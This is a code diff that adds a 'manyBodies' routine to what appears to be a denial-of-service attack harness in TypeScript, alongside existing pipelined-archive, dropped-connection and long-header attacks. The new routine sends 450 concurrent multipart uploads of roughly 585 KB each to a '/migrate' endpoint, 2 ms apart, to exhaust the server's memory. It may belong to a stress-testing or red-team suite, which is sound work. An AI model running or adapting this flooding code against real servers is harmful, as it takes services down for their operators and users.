@@ -25,6 +25,8 @@ interface Attacker extends Target {
 
 /** One round of each attack. */
 const ATTACKS = {
+  // The first, while the server has little memory.
+  manyBodies,
   pipelinedArchive,
   droppedConnections,
   longHeadersOfPart: (attacker) => postPhoto(attacker, longHeaders, [{}, attacker.member]),
@@ -46,7 +48,7 @@ export async function attack(
   target: Target,
   { count, isOver }: { count: Count; isOver: () => boolean },
 ) {
-  const client = openClient(target.origin, target.from, CONNECTIONS);
+  const client = openClient(target.origin, target.from, name === "manyBodies" ? BODIES : CONNECTIONS);
   const send: Attacker["send"] = async (path, sent) => {
     try {
       const { status, headers } = await client.send(path, sent);
@@ -57,6 +59,26 @@ export async function attack(
   };
   for (let round = 0; !isOver(); round += 1) await ATTACKS[name]({ ...target, client, count, send }, round);
   client.close();
+}
+
+/** Bodies of one round, on a connection each. */
+const BODIES = 450;
+/** Time between the beginnings of two of them, milliseconds. */
+const BODY_INTERVAL_MS = 2;
+
+/** Sends files as long as `/migrate` accepts them, all within a second, again and again. */
+async function manyBodies({ send }: Attacker): Promise<void> {
+  const file = "a".repeat(585_000);
+  const body = Buffer.from(
+    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.json"\r\n\r\n${file}\r\n--${BOUNDARY}--\r\n`,
+  );
+  const headers = { "Content-Type": `multipart/form-data; boundary=${BOUNDARY}` };
+  await Promise.all(
+    Array.from({ length: BODIES }, async (_, index) => {
+      await sleep(index * BODY_INTERVAL_MS);
+      await send("/migrate", { method: "POST", headers, body });
+    }),
+  );
 }
 
 const PIPELINED = 3000;
